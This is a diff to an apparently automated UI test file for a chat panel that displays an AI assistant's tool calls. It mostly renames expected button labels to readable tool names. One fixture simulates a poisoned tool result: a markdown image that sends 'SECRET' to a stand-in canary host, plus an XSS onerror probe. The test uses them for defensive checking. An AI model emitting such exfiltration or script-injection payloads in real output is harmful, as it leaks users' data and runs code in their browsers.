@@ -44,8 +44,8 @@ describe("a round of tools", () => {
       run("fetch", "done", { text: "![x](https://canary.example.invalid/p?d=SECRET)\n<img src=x onerror=alert(1)>", ms: 5 }),
     );
     await panel.send(snapshot([question("q1", "?"), answer("m1", "Let me look."), poisoned, { ...answer("m2", "Done."), parentId: "t1" }]));
-    const toggle = panel.page.getByRole("button", { name: /^fetch/ });
-    expect(await toggle.innerText()).toMatch(/fetch\s*done · 5 ms · \d+ characters/);
+    const toggle = panel.page.getByRole("button", { name: /^Fetch/ });
+    expect(await toggle.innerText()).toMatch(/Fetch\s*done · 5 ms · \d+ characters/);
     await toggle.focus();
     await panel.page.keyboard.press("Enter");
     const details = panel.page.getByRole("region", { name: "Details for fetch" });
@@ -58,7 +58,7 @@ describe("a round of tools", () => {
     const panel = await open();
     const images = [picture, "https://canary.example.invalid/p.png", "data:image/svg+xml;base64,PHN2Zy8+"];
     await panel.send(snapshot([question("q1", "?"), answer("m1", ""), tools(run("show", "done", { images, ms: 1 }))]));
-    await panel.page.getByRole("button", { name: /^show/ }).click();
+    await panel.page.getByRole("button", { name: /^Show/ }).click();
     await panel.page.getByRole("img", { name: "Result image 1" }).waitFor();
     expect(await panel.page.locator(".tool-body img").count()).toBe(1);
   });
@@ -75,14 +75,14 @@ describe("a round of tools", () => {
   test("updates with its runs without collapsing open ones", async () => {
     const panel = await open();
     await panel.send(snapshot([question("q1", "?"), answer("m1", ""), tools(run("add", "running"))], stateOf({ answering: "t1" })));
-    await panel.page.getByRole("button", { name: /^add/ }).click();
+    await panel.page.getByRole("button", { name: /^Add/ }).click();
     await panel.send({
       type: "message",
       conversationId: "c1",
       shown: shown(tools(run("add", "running", { status: "done", text: "42", ms: 7 }))),
     });
     expect(await panel.page.getByRole("region", { name: "Details for add" }).innerText()).toContain("42");
-    expect(await panel.page.getByRole("button", { name: /^add/ }).innerText()).toContain("done");
+    expect(await panel.page.getByRole("button", { name: /^Add/ }).innerText()).toContain("done");
   });
 
   test("the composer's button shows how many are on, and why none can be used", async () => {
@@ -99,7 +99,7 @@ describe("a round of tools", () => {
   test.each(themes)("axe finds no problems in $name, at 170 to 900 px", async (theme) => {
     const panel = await open({ theme, width: 300, height: 900 });
     await panel.send(snapshot(talk));
-    await panel.page.getByRole("button", { name: /^aside_readFile/ }).click();
+    await panel.page.getByRole("button", { name: /^Read file/ }).click();
     expect(await violations(panel)).toEqual([]);
     await panel.page.screenshot({ path: `.cache/tools-${theme.name.replaceAll(/\W+/g, "-")}.png` });
     for (const width of [170, 900]) {
@@ -141,7 +141,7 @@ describe("the figures of a turn with tools", () => {
   test("are above the tools where the turn was stopped at them", async () => {
     const panel = await open();
     await panel.send(snapshot(turn.slice(0, 3), stateOf({ answering: "m1" })));
-    await panel.page.getByText("aside_readFile").waitFor();
+    await panel.page.getByText("Read file").waitFor();
     const figures = panel.page.getByRole("group", { name: "Answer statistics" });
     expect(await figures.count()).toBe(0);
     await panel.send({ type: "state", state: stateOf() });
@@ -249,7 +249,7 @@ describe("the host's question about a call", () => {
     await panel.send(
       snapshot([question("q1", "?"), answer("m1", ""), waiting], stateOf({ tools: { on: 2, unusable: null, allowed: ["neighbour_add"] } })),
     );
-    const toggle = panel.page.getByRole("button", { name: /^neighbour_add/ });
+    const toggle = panel.page.getByRole("button", { name: /^Neighbour add/ });
     expect(await toggle.innerText()).toContain("allowed in this conversation");
     await toggle.click();
     await panel.page.getByRole("button", { name: "Ask again" }).click();
